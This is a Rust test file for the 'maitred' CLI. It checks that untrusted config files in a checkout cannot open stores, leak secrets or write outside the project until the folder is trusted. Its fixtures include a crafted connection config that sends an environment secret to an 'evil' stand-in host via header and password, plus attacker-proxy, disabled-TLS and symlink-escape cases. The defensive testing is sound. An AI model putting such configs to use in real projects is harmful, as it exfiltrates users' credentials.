//! A checkout is data from a stranger: nothing that a found file names is run, or gets a secret.

use serde_json::json;

use super::process::{Maitred, Ran};
use crate::support::loopback::{Loopback, Reply};

const NAMES_STORE: &str = "store = \"var/tasks.sqlite\"\n";
const NAMES_CONNECTIONS: &str = "connections = \"evil.toml\"\n";

/// A sensor that is done at once, and what runs it.
fn sensor(api: &Loopback) -> String {
    json!({"endpoint": api.url("/job"), "response_check": {"status": 200}}).to_string()
}

fn api() -> Loopback {
    Loopback::start(|_| Reply::json(200, "{}"))
}

/// A connection that sends a secret of the user's to `evil`.
fn evil_toml(evil: &Loopback) -> String {
    let url = evil.url("");
    format!(
        "[http_default]\ntype = 'http'\nhost = '{url}'\n\
         extra.headers = {{ X-Loot = {{ '$secret' = 'env:LOOT' }} }}\n\
         [jobs]\ntype = 'http'\nhost = '{url}'\nlogin = 'me'\npassword = {{ '$secret' = 'env:LOOT' }}\n"
    )
}

#[track_caller]
fn is_refused(ran: &Ran, words: &[&str]) {
    assert_eq!(ran.code, Some(2), "{}{}", ran.stdout, ran.stderr);
    for word in words {
        assert!(ran.stderr.contains(word), "{word}: {}", ran.stderr);
    }
}

#[tokio::test]
async fn a_store_that_a_found_file_names_is_not_opened_without_trust() {
    let api = api();
    let maitred = Maitred::new().file("maitred.toml", NAMES_STORE).file("var/keep", "");
    let args = sensor(&api);
    let commands: [&[&str]; 6] = [
        &["run", "http.sensor", "--args", &args],
        &["tasks", "submit", "http.sensor", "--args", &args],
        &["tasks", "list"],
        &["tasks", "show", "1"],
        &["triggerer", "--until-idle"],
        &["triggerer", "--check"],
    ];
    for command in commands {
        let ran = maitred.run(command).await;
        is_refused(&ran, &["maitred.toml", "var/tasks.sqlite", "maitred trust", "--store"]);
    }
    assert!(api.requests().is_empty());
    assert!(!maitred.has("var/tasks.sqlite"));
    // Named on the command line or in the environment, it is the user's own word.
    let named = [commands[0], &["--store", "own.sqlite"]].concat();
    assert_eq!(maitred.run(&named).await.code, Some(0));
    // What needs no store does not mind.
    assert_eq!(maitred.run(&["list", "redshift"]).await.code, Some(0));
    let wait = ["wait", "http", "up", "--url", &api.url("/"), "--dry-run"];
    assert_eq!(maitred.run(&wait).await.code, Some(0));
}

#[tokio::test]
async fn secrets_go_nowhere_because_a_found_file_names_connections() {
    let evil = api();
    let maitred = Maitred::new()
        .variable("LOOT", "hunter2")
        .file("maitred.toml", NAMES_CONNECTIONS)
        .file("evil.toml", &evil_toml(&evil));
    let args = json!({"endpoint": "job", "response_check": {"status": 200}}).to_string();
    let commands: [&[&str]; 7] = [
        &["run", "http.sensor", "--args", &args],
        &["tasks", "submit", "http.sensor", "--args", &args],
        &["triggerer", "--until-idle"],
        &["connections", "list"],
        &["connections", "test", "jobs"],
        &["wait", "http", "up", "--endpoint", "x", "--connection", "jobs", "--once"],
        &["call", "http", "get", "--endpoint", "x", "--connection", "jobs"],
    ];
    for command in commands {
        let ran = maitred.run(command).await;
        is_refused(&ran, &["evil.toml", "maitred trust", "--connections"]);
    }
    assert!(evil.requests().is_empty(), "{:?}", evil.requests());
    let named = [commands[4], &["--connections", "evil.toml"]].concat();
    assert_eq!(maitred.run(&named).await.code, Some(0));
    assert_eq!(evil.requests().len(), 1);
}

#[tokio::test]
async fn trust_is_given_taken_back_and_listed() {
    let (api, evil) = (api(), api());
    let maitred = Maitred::new()
        .file("maitred.toml", &format!("{NAMES_STORE}{NAMES_CONNECTIONS}"))
        .file("evil.toml", "")
        .file("var/keep", "");
    let args = sensor(&api);
    let run = ["run", "http.sensor", "--args", &args];
    let trusted = maitred.run(&["trust"]).await;
    assert_eq!(trusted.code, Some(0), "{}", trusted.stderr);
    for named in ["var/tasks.sqlite", "evil.toml"] {
        assert!(trusted.stderr.contains(named), "{}", trusted.stderr);
    }
    let ran = maitred.run(&run).await;
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    assert!(maitred.has("var/tasks.sqlite"));
    let listed = maitred.run(&["trust", "--list", "--output", "json"]).await.json();
    assert_eq!(listed["folders"][0]["standing"], "trusted", "{listed}");

    // As a pull would do it.
    let maitred = maitred.file("evil.toml", &evil_toml(&evil));
    is_refused(&maitred.run(&run).await, &["evil.toml has changed since you trusted"]);
    let listed = maitred.run(&["trust", "--list"]).await;
    assert!(listed.stdout.ends_with("  changed\n"), "{}", listed.stdout);
    let listed = maitred.run(&["tasks", "list"]).await;
    assert_eq!(listed.code, Some(0), "that needs no connection: {}", listed.stderr);
    let maitred = maitred.file("maitred.toml", "store = \"var/other.sqlite\"\n");
    is_refused(&maitred.run(&["tasks", "list"]).await, &["maitred.toml has changed since"]);

    assert_eq!(maitred.run(&["trust", "."]).await.code, Some(0));
    assert_eq!(maitred.run(&run).await.code, Some(0));
    assert_eq!(maitred.run(&["trust", "--revoke"]).await.code, Some(0));
    is_refused(&maitred.run(&run).await, &["you have not trusted this folder"]);
    is_refused(&maitred.run(&["trust", "--revoke"]).await, &["is not trusted", "--list"]);
    is_refused(&maitred.run(&["trust", "/"]).await, &["there is no maitred.toml"]);
}

#[tokio::test]
async fn connections_that_change_under_a_triggerer_are_not_used() {
    let evil = api();
    let maitred = Maitred::new()
        .variable("LOOT", "hunter2")
        .file("maitred.toml", NAMES_CONNECTIONS)
        .file("evil.toml", "");
    assert_eq!(maitred.run(&["trust"]).await.code, Some(0));
    let mut triggerer = maitred.start(&["triggerer"]);
    super::process::read_until(&mut triggerer, |said| said.contains("running the tasks")).await;
    let maitred = maitred.file("evil.toml", &evil_toml(&evil));
    let args = json!({"endpoint": "job", "response_check": {"status": 200}}).to_string();
    // Submitted by somebody who has named other connections.
    let own = ["--connections", "own.toml"];
    let maitred = maitred.file("own.toml", "[http_default]\ntype = 'http'\nhost = 'http://x'\n");
    let submit = ["tasks", "submit", "http.sensor", "--args", &args];
    let submitted = maitred.run(&[&submit[..], &own].concat()).await;
    assert_eq!(submitted.code, Some(0), "{}", submitted.stderr);
    let watched = maitred.run(&["tasks", "watch", "1"]).await;
    assert_eq!(watched.code, Some(4), "{}", watched.stderr);
    assert!(watched.stderr.contains("has changed since you trusted"), "{}", watched.stderr);
    assert!(evil.requests().is_empty(), "{:?}", evil.requests());
    triggerer.kill().await.unwrap();
}

#[tokio::test]
async fn a_waiter_file_does_not_lead_a_connection_another_way() {
    let evil = api();
    let waiter = |route: serde_json::Value| {
        let mut input = json!({"endpoint": "job"});
        input.as_object_mut().unwrap().extend(route.as_object().unwrap().clone());
        json!({"version": 2, "service": "http", "waiters": {"job_done": {
            "operation": "GET", "delay": 1, "maxAttempts": 1, "input": input, "acceptors": [
                {"state": "success", "matcher": "status", "expected": 200}]}}})
        .to_string()
    };
    let routes = [
        ("proxy", json!({"proxy": evil.url("")})),
        ("verify", json!({"verify": false})),
        ("verify", json!({"verify": "evil.pem"})),
    ];
    for (key, route) in routes {
        let maitred = Maitred::new()
            .variable("MAITRED_CONN_JOBS", "http://me:hunter2@jobs.invalid")
            .file("waiters/jobs.json", &waiter(route));
        let task =
            json!({"service": "http", "waiter": "job_done", "client": {"connection": "jobs"}});
        let commands: [&[&str]; 2] = [
            &["wait", "http", "job_done", "--connection", "jobs"],
            &["run", "maitred.wait", "--args", &task.to_string()],
        ];
        for command in commands {
            is_refused(&maitred.run(command).await, &[&format!("its file says `{key}`")]);
        }
        // Without a connection there is nothing to lose.
        let alone = ["wait", "http", "job_done", "--endpoint-url", "http://x", "--dry-run"];
        assert_eq!(maitred.run(&alone).await.code, Some(0));
    }
    assert!(evil.requests().is_empty());
}

#[cfg(unix)]
#[tokio::test]
async fn a_checkout_does_not_say_what_is_written_elsewhere() {
    let outside = tempfile::tempdir().unwrap();
    let place = outside.path().display().to_string();
    let new = ["new", "braket", "get-quantum-task", "--yes"];
    let maitred = Maitred::new().file("maitred.toml", &format!("tests = '{place}'\n"));
    is_refused(&maitred.run(&new).await, &["leads out of this project", "--cases"]);
    let maitred = Maitred::new();
    std::os::unix::fs::symlink(outside.path(), maitred.path("waiters")).unwrap();
    is_refused(&maitred.run(&new).await, &["leads out of this project", "--file"]);
    // A file that lint would change.
    let unfixed = r#"{"version": 2, "waiters": {"a": {"operation": "DescribeClusters", "delay": 1,
        "maxAttempts": 2, "acceptors": [{"state": "success", "matcher": "status", "expected": 200}]}}}"#;
    let path = outside.path().join("redshift.json");
    std::fs::write(&path, unfixed).unwrap();
    is_refused(&maitred.run(&["lint", "--fix"]).await, &["leads out of this project"]);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), unfixed);
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 1);
    let named = path.display().to_string();
    maitred.run(&["lint", "--fix", &named]).await;
    assert_ne!(std::fs::read_to_string(&path).unwrap(), unfixed);
}
